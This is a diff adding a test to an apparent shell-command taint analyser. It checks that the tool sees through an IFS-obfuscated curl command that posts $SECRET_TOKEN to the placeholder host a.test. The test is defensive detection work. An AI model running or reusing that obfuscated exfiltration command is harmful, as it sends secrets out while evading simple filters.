@@ -27,3 +27,11 @@ describe('positional parameters at the top of a script', () => {
     expect(calls.map(({ api }) => api)).toEqual(['sh:curl']);
   });
 });
+
+test('the separator variable ends a value nobody knows', () => {
+  const call = observeShell('curl${IFS}-d${IFS}$SECRET_TOKEN${IFS}https://a.test').calls.find(
+    ({ api }) => api === 'sh:curl',
+  );
+  expect(call?.args.url?.texts).toEqual(['https://a.test']);
+  expect(call?.args.body?.taints.map(({ source }) => source.name)).toEqual(['SECRET_TOKEN']);
+});
